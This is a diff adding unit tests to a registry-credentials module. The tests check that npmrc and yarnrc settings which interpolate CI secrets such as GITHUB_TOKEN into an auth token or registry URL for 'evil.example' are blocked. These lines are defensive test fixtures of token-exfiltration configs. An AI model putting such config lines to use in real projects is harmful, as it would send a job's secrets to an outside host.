@@ -181,6 +181,43 @@ describe('credentials', () => {
     expect(await authorization({ user }, 'http://localhost:1/')).toBe('Bearer other');
   });
 
+  describe('no settings file is given', () => {
+    const host = 'https://evil.example/';
+    const job = { GITHUB_ACTIONS: 'true', 'INPUT_GITHUB-TOKEN': 'ghs_job' };
+    test.each([
+      ['an input of the action', 'INPUT_GITHUB-TOKEN', job],
+      ['an input of the action outside of a job', 'INPUT_SECRET', { INPUT_SECRET: 's3cret' }],
+      ["the job's token", 'GITHUB_TOKEN', { ...job, GITHUB_TOKEN: 'ghs_job' }],
+      ["the job's token under another name", 'NODE_AUTH_TOKEN', { ...job, NODE_AUTH_TOKEN: 'ghs_job' }],
+      ["the job's other tokens", 'ACTIONS_ID_TOKEN_REQUEST_TOKEN', { ...job, ACTIONS_ID_TOKEN_REQUEST_TOKEN: 'oidc' }],
+    ])('%s, whoever wrote it', async (_, name, env) => {
+      const line = `//evil.example/:_authToken=\${${name}}\n`;
+      expect(await authorization({ base: line, env }, host)).toBeUndefined();
+      expect(await authorization({ user: line, env }, host)).toBeUndefined();
+      const address = `registry=https://evil.example/\${${name}}/\n`;
+      expect((await failure({ base: address, env })).code).toBe('configuration-invalid');
+      const yarn = await settingsFile('.yarnrc.yml', `npmRegistryServer: "https://evil.example/\${${name}:-x}/"\n`);
+      const { registries } = await load({ projects: [[yarn]], env });
+      expect(registries.defaultRegistry).toMatch(/^https:\/\/evil\.example\/(?:TOKEN:-)?x\/$/);
+    });
+
+    test('but a token of its own, in a job too, and of a developer outside of one', async () => {
+      const line = (name: string) => `//acme.example/:_authToken=\${${name}}\n`;
+      const acme = 'https://acme.example/';
+      const own = { ...job, ACME_TOKEN: 's3cret' };
+      expect(await authorization({ base: line('ACME_TOKEN'), env: own }, acme)).toBe('Bearer s3cret');
+      expect(await authorization({ base: line('GITHUB_TOKEN'), env: { GITHUB_TOKEN: 'mine' } }, acme)).toBe(
+        'Bearer mine',
+      );
+    });
+
+    test("while the policy's `tokenEnv` may name the variable that holds the job's token", async () => {
+      const policyRegistries = [{ url: 'https://acme.example/', scopes: ['@acme'], tokenEnv: 'NODE_AUTH_TOKEN' }];
+      const { connect } = await load({ policyRegistries, env: { ...job, NODE_AUTH_TOKEN: 'ghs_job' } });
+      expect(connect('https://acme.example/').authorization).toBe('Bearer ghs_job');
+    });
+  });
+
   test('user name and password, or both in one', async () => {
     const password = Buffer.from('word').toString('base64');
     const basic = Buffer.from('me:word').toString('base64');
